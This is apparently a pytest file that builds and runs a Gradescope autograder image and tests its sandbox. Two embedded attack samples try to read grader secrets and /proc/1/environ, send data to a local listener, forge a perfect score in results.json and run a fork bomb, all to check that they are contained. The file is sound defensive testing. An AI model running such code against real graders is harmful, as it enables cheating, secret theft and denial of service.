"""The grading image, built and run the way Gradescope runs it.

Where a container engine works here (podman as root; the tests install it with
``make test``'s system packages), the image of hw1 is built from a local Debian base made with
debootstrap (no registry is needed, and the base is kept between runs as
``localhost/tapegrad-base:bookworm``), then ``/autograder/run_autograder`` is run in it as root
with the network on, as Gradescope does: the reference gets full marks, the release nothing,
and attacks are contained by the in-container ``user`` level. This machine's quirks (podman's
runc runtime, fixed ulimits) live here, not in the product: ``kit image build`` takes them as
``--engine-arg`` and ``--build-option``.

Without an engine, the tests that need one skip and say why; the wheel and the Gradescope zip
are checked everywhere.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from autograder.authoring.image import build_image, build_wheels, write_gradescope_zip
from autograder.authoring.leaks import LeakPatterns, find_leaks, leak_patterns
from autograder.authoring.reference import build_reference
from autograder.authoring.release import build_release
from autograder.config import load_assignment
from autograder.grading.channel import Limits
from autograder.grading.pipeline import GradeOptions, grade_submission
from autograder.grading.sandbox import ContainerSandbox
from autograder.paths import KIT_ROOT
from autograder.run_autograder import choose_assignment
from autograder.run_autograder import main as run_autograder_main
from autograder.secret import load_secret

BASE = "localhost/tapegrad-base:bookworm"
TAG = "localhost/tapegrad-grader:test-hw1"
RUNC = "/usr/sbin/runc"
ULIMITS = ["--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024"]


def _solution_lines() -> LeakPatterns:
    """The lines of the solution package's solution blocks (not the markers, which are the
    kit's own vocabulary, nor the source notebooks, which the grader needs to judge notebook
    checks and the image keeps root-only)."""
    patterns = leak_patterns(KIT_ROOT, load_assignment("hw1", KIT_ROOT))
    lines = {
        line: origin
        for line, origin in patterns.lines.items()
        if "solution/tapegrad/" in origin and "SOLUTION" not in line
    }
    return LeakPatterns(lines=lines, hidden_ids={}, markers=())


# ---- everywhere: the wheel and the zip ---------------------------------------------------------


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    wheels = build_wheels(KIT_ROOT, tmp_path_factory.mktemp("wheel"), deps=False)
    (path,) = [w for w in wheels if w.name.startswith("tapegrad_kit-")]
    return path


def test_the_installed_grader_carries_no_solution(wheel: Path, tmp_path: Path) -> None:
    """What students install and what the image's worker can read: no line of a solution
    block, no bug catalogue (which quotes the solution), no assignment file."""
    with zipfile.ZipFile(wheel) as z:
        names = z.namelist()
        z.extractall(tmp_path)
    assert any(n.startswith("autograder/worker/") for n in names)
    assert not [n for n in names if n.endswith(("bugs.toml", "assignment.toml", ".ipynb"))]
    assert not [n for n in names if n.startswith(("solution/", "tapegrad/", "assignments/"))]
    assert find_leaks(tmp_path, _solution_lines()) == []


def test_gradescope_zip(tmp_path: Path) -> None:
    out = write_gradescope_zip(KIT_ROOT, "hw1", tmp_path / "hw1.zip")
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        assert z.read("ASSIGNMENT").decode().strip() == "hw1"
        z.extractall(tmp_path / "unzipped")
    for name in ("setup.sh", "run_autograder", "assignments/hw1/assignment.toml",
                 "data/mnist-sample/t10k-labels-idx1-ubyte.gz", "grader-secret",
                 "starter/tapegrad/__init__.py"):  # fmt: skip
        assert name in names, name
    assert any(n.startswith("wheelhouse/tapegrad_kit-") for n in names)
    assert any(n.startswith("wheelhouse/numpy-") for n in names)
    assert not [n for n in names if "solution" in n or n.endswith("bugs.toml")]
    assert find_leaks(tmp_path / "unzipped", _solution_lines()) == []


# ---- with an engine: build and run ---------------------------------------------------------------


def _engine() -> tuple[str, list[str]] | None:
    """podman (with runc, whose runtime works here) as root, or a docker with a daemon."""
    if os.getuid() == 0 and shutil.which("podman"):
        args = ["--runtime", RUNC] if os.path.exists(RUNC) else []
        if subprocess.run(["podman", *args, "info"], capture_output=True).returncode == 0:
            return "podman", args
    if (
        shutil.which("docker")
        and subprocess.run(["docker", "info"], capture_output=True).returncode == 0
    ):
        return "docker", []
    return None


ENGINE = _engine()
needs_engine = pytest.mark.skipif(
    ENGINE is None, reason="no container engine works here (podman as root, or docker)"
)


def _local_base(engine: str, args: list[str]) -> str:
    """The Debian base, made once with debootstrap and kept in the engine's storage."""
    if (
        subprocess.run([engine, *args, "image", "exists", BASE], capture_output=True).returncode
        == 0
    ):
        return BASE
    if shutil.which("debootstrap") is None:
        pytest.skip("debootstrap is not installed: no local base image to build from")
    with tempfile.TemporaryDirectory(prefix="tapegrad-rootfs-") as tmp:
        rootfs = Path(tmp) / "rootfs"
        include = "python3,python3-venv,ca-certificates"
        done = subprocess.run(
            ["debootstrap", "--variant=minbase", f"--include={include}", "bookworm", str(rootfs),
             "http://deb.debian.org/debian"],
            capture_output=True, text=True,
        )  # fmt: skip
        if done.returncode != 0:
            pytest.skip(f"debootstrap failed here: {done.stderr[-300:]}")
        tar = subprocess.Popen(["tar", "-C", str(rootfs), "-c", "."], stdout=subprocess.PIPE)
        imported = subprocess.run(
            [engine, *args, "import", "-", BASE], stdin=tar.stdout, capture_output=True
        )
        tar.wait()
        assert imported.returncode == 0, imported.stderr
    return BASE


Image = tuple[str, list[str], float]  # the engine, its options, the build's seconds


@pytest.fixture(scope="module")
def image() -> Iterator[Image]:
    assert ENGINE is not None
    engine, args = ENGINE
    base = _local_base(engine, args)
    start = time.monotonic()
    build_image(
        KIT_ROOT,
        "hw1",
        TAG,
        base=base,
        engine=engine,
        engine_args=tuple(args),
        build_options=tuple(["--network=none", *ULIMITS]),
    )
    seconds = time.monotonic() - start
    size = subprocess.run(
        [engine, *args, "image", "inspect", "--format", "{{.Size}}", TAG],
        capture_output=True, text=True,
    ).stdout.strip()  # fmt: skip
    print(f"\nimage {TAG} built in {seconds:.0f} s, {int(size or 0) / 2**20:.0f} MiB")
    yield engine, args, seconds
    # rebuilt at every run: do not let old copies pile up in the engine's storage
    subprocess.run([engine, *args, "rmi", "-f", TAG], capture_output=True)


def _run(image: Image, submission: Path, out: Path, network: str = "host") -> dict:
    """/autograder/run_autograder in the image, as Gradescope runs it (root, network on)."""
    engine, args, _ = image
    out.mkdir(parents=True, exist_ok=True)
    start = time.monotonic()
    done = subprocess.run(
        [engine, *args, "run", "--rm", f"--network={network}", *ULIMITS,
         "-v", f"{submission}:/autograder/submission:ro", "-v", f"{out}:/autograder/results",
         TAG, "/autograder/run_autograder"],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    elapsed = time.monotonic() - start
    assert (out / "results.json").is_file(), (
        done.returncode,
        done.stdout[-2000:],
        done.stderr[-2000:],
    )
    results = json.loads((out / "results.json").read_text())
    results["_seconds"] = elapsed
    results["_stdout"] = done.stdout
    return results


@needs_engine
def test_reference_gets_full_marks_in_the_image(image: Image, tmp_path: Path) -> None:
    build_reference("hw1", KIT_ROOT, tmp_path / "reference")
    results = _run(image, tmp_path / "reference", tmp_path / "out")
    print(f"\nreference graded in the image in {results['_seconds']:.1f} s")
    assert results["score"] == pytest.approx(100.0), results["_stdout"][-3000:]
    assert "sandbox: user" in results["output"] or "sandbox: bwrap" in results["output"]


@needs_engine
def test_release_gets_nothing_in_the_image(image: Image, tmp_path: Path) -> None:
    build_release("hw1", KIT_ROOT, tmp_path / "release")
    results = _run(image, tmp_path / "release", tmp_path / "out")
    assert results["score"] == 0
    assert "not implemented" in json.dumps(results["tests"]).lower()


ATTACK = """
import os, socket, glob
stolen = []
for p in ["/autograder/source/grader-secret",
          "/autograder/source/data/mnist-sample/t10k-labels-idx1-ubyte.gz",
          "/autograder/source/assignments/hw1/assignment.toml", "/proc/1/environ"]:
    try:
        stolen.append(open(p, "rb").read()[:100])
    except OSError as e:
        stolen.append(type(e).__name__)
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"LEAK")
    stolen.append("connected")
except OSError as e:
    stolen.append("net:" + type(e).__name__)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(3)
        try:
            open("/autograder/results/results.json", "w").write('{"score": 100}')
        except OSError:
            pass
        os._exit(0)
    os._exit(0)
raise RuntimeError("stolen: " + repr(stolen))
"""


@needs_engine
def test_attacks_are_contained_in_the_image(image: Image, tmp_path: Path) -> None:
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(15)

    def accept() -> None:
        try:
            conn, _ = server.accept()
            received.append(conn.recv(10) or b"<connected>")
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    submission = tmp_path / "attack"
    (submission / "tapegrad").mkdir(parents=True)
    source = ATTACK.replace("PORT", str(server.getsockname()[1]))
    (submission / "tapegrad" / "__init__.py").write_text(source)
    results = _run(image, submission, tmp_path / "out", network="host")
    time.sleep(4)  # the detached process would have rewritten results.json by now
    server.close()
    thread.join()
    assert received == []
    text = (tmp_path / "out" / "results.json").read_text()
    assert results["score"] == 0 and '"score": 100}' not in text
    assert "stolen:" in text  # the attack ran, and this is what it got:
    assert "PermissionError" in text and "net:PermissionError" in text
    assert load_secret().decode() not in text  # what the image holds, root-only


CONTAINER_ATTACK = """
import os, socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"LEAK")
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.fork()
        except OSError:
            pass
while True:
    pass
"""


@needs_engine
def test_the_container_level(image: Image, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``--sandbox container`` from this host: the reference gets full marks; a fork bomb that
    also phones home and hangs at import is contained, and no container is left behind."""
    engine, args, _ = image
    monkeypatch.setenv("TAPEGRAD_IMAGE", TAG)
    monkeypatch.setenv("TAPEGRAD_ENGINE", " ".join([engine, *args]))
    monkeypatch.setenv("TAPEGRAD_RUN_OPTIONS", " ".join(ULIMITS))
    monkeypatch.setattr(ContainerSandbox, "_probed", None)
    hw1 = load_assignment("hw1", KIT_ROOT)
    options = GradeOptions(sandbox="docker", limits=Limits(start_timeout=20.0))  # the alias
    build_reference("hw1", KIT_ROOT, tmp_path / "reference")
    start = time.monotonic()
    reference = grade_submission(tmp_path / "reference", hw1, options)
    print(f"\nreference graded under --sandbox container in {time.monotonic() - start:.1f} s")
    assert reference.sandbox == "container" and reference.score == pytest.approx(100.0)

    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(10)
    attack = tmp_path / "attack" / "tapegrad"
    attack.mkdir(parents=True)
    port = server.getsockname()[1]
    (attack / "__init__.py").write_text(CONTAINER_ATTACK.replace("PORT", str(port)))
    few = dataclasses.replace(hw1, checks=hw1.checks[:2])
    result = grade_submission(tmp_path / "attack", few, options)
    try:
        conn, _ = server.accept()
        received.append(conn.recv(10))
    except OSError:
        pass
    server.close()
    assert received == []
    assert result.score == 0 and "no hello within" in (result.error or "")
    left = subprocess.run(
        [engine, *args, "ps", "-a", "--filter", "name=tapegrad-worker", "--format", "{{.Names}}"],
        capture_output=True, text=True,
    ).stdout.split()  # fmt: skip
    assert left == []


# ---- which assignment run_autograder grades ------------------------------------------------------


def _image_source(tmp_path: Path, ids: tuple[str, ...], fixed: str | None = None) -> Path:
    source = tmp_path / "source"
    for assignment_id in ids:
        shutil.copytree(
            KIT_ROOT / "assignments" / assignment_id, source / "assignments" / assignment_id
        )
    if fixed:
        (source / "ASSIGNMENT").write_text(fixed + "\n")
    return source


def _metadata(tmp_path: Path, title: str) -> Path:
    path = tmp_path / "submission_metadata.json"
    path.write_text(json.dumps({"assignment": {"title": title, "id": 123}}))
    return path


def test_run_autograder_chooses_the_assignment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("TAPEGRAD_ASSIGNMENT", raising=False)
    every = _image_source(tmp_path / "every", ("hw1", "hw2", "hw3"))
    assert choose_assignment(every, _metadata(tmp_path, "HW2: neural networks"))[0] == "hw2"
    assert choose_assignment(every, _metadata(tmp_path, "Homework 2 (hw2)"))[0] == "hw2"
    none, why = choose_assignment(every, _metadata(tmp_path, "Homework two"))
    assert none is None and "put the id" in why
    assert choose_assignment(every, tmp_path / "missing.json")[0] is None
    fixed = _image_source(tmp_path / "fixed", ("hw1",), fixed="hw1")
    assert choose_assignment(fixed, _metadata(tmp_path, "hw2"))[0] == "hw1"
    alone = _image_source(tmp_path / "alone", ("hw3",))
    assert choose_assignment(alone, tmp_path / "missing.json")[0] == "hw3"
    monkeypatch.setenv("TAPEGRAD_ASSIGNMENT", "hw1")
    assert choose_assignment(every, _metadata(tmp_path, "hw2"))[0] == "hw1"


def test_run_autograder_says_why_when_it_cannot_choose(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gradescope then shows the reason (a results.json), not "no results file"."""
    monkeypatch.delenv("TAPEGRAD_ASSIGNMENT", raising=False)
    _image_source(tmp_path, ("hw1", "hw2"))
    (tmp_path / "submission").mkdir()
    _metadata(tmp_path, "Homework")
    assert run_autograder_main(tmp_path) == 2
    results = json.loads((tmp_path / "results" / "results.json").read_text())
    assert results["score"] == 0 and "cannot tell which assignment" in results["output"]


@needs_engine
def test_gradescope_zip_sets_up_and_grades_in_a_bare_base(image: Image, tmp_path: Path) -> None:
    """Gradescope's path for the zip, replayed in the bare Debian base: unpack it into
    /autograder/source, run setup.sh (offline: the wheelhouse is enough), copy run_autograder
    into place and grade the reference."""
    engine, args, _ = image
    source, results, submission = tmp_path / "source", tmp_path / "results", tmp_path / "sub"
    results.mkdir()
    with zipfile.ZipFile(write_gradescope_zip(KIT_ROOT, "hw1", tmp_path / "hw1.zip")) as z:
        z.extractall(source)
    build_reference("hw1", KIT_ROOT, submission)
    script = (
        "sh /autograder/source/setup.sh && cp /autograder/source/run_autograder /autograder/ "
        "&& chmod +x /autograder/run_autograder && /autograder/run_autograder"
    )
    done = subprocess.run(
        [engine, *args, "run", "--rm", "--network=none", *ULIMITS, "-e", "PIP_NO_INDEX=1",
         "-v", f"{source}:/autograder/source", "-v", f"{submission}:/autograder/submission:ro",
         "-v", f"{results}:/autograder/results", BASE, "sh", "-c", script],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert (results / "results.json").is_file(), done.stdout[-2000:] + done.stderr[-2000:]
    assert json.loads((results / "results.json").read_text())["score"] == pytest.approx(100.0)
